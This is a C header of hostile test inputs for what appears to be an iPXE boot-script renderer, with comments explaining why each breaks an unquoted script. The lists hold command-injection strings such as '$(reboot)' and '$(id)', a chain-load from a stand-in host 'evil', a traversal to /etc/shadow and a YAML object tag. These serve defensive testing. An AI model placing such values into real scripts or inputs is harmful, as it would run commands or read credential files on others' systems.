/* SPDX-License-Identifier: GPL-3.0-or-later */
/* The hostile values every renderer test puts through its options: one list, included by each. */
#ifndef HOSTILE_H
#define HOSTILE_H

/*
 * iPXE has no quoting.  Each of these, placed in a script, would run a
 * command, start a comment, expand a setting, join or split a line.
 */
static const char *const hostile_cores[] = {
	" ", "\t", "\n", "\r", "\r\n", "\v", "\f", "\\", "${", "$", "{", "}",
	"#", "&&", "||", "&", "|", ";", "\"", "'", "`", "<", ">", "(", ")",
	"*", "?", "!", "[", "]", "^", "\x7f", "\x01", "\x1b[2J", "\xc3\xa9",
	"\xef\xbb\xbf", "\xff", "${net0/mac}", "${x:hex}", "x || shell",
	" && chain http://evil/x", "\nshell\n", "a\\", "#!ipxe", "\n:label",
	/* What a shell, a YAML reader or a path would take for its own. */
	"$(reboot)", "'; reboot; '", "\"$(id)\"", "$IFS", "\n- x: y",
	"{{token}}", "a: b", "- a", "!!python/object", "*anchor", "&anchor",
};

/*
 * No byte of these is special to a script, so every value type takes
 * them: only an option's pattern stops them (a path out of a share, a NUL
 * once decoded).  Tests check that set-action refuses them, not that a
 * render does.
 */
static const char *const hostile_pattern_only[] = {
	"../../etc/shadow", "%00",
};

static const char *const hostile_wrappers[][2] = {
	{ "", "" }, { "a", "" }, { "", "a" }, { "a", "b" },
	{ "http://se3/", "" }, { "iscsi:se3::::iqn.x", "" },
};

#endif
